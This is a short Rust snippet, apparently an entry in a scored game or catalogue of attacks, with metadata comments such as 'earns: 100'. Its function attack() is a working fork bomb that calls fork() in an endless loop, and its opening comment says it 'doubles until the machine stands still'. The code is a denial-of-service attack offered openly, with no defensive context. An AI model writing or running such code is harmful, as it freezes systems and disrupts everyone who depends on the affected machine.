// Doubles until the machine stands still.
// on: reference
// in: push
// at: home
// earns: 100

unsafe extern "C" {
    fn fork() -> i32;
}

fn attack() {
    unsafe {
        while fork() >= 0 {}
    }
}
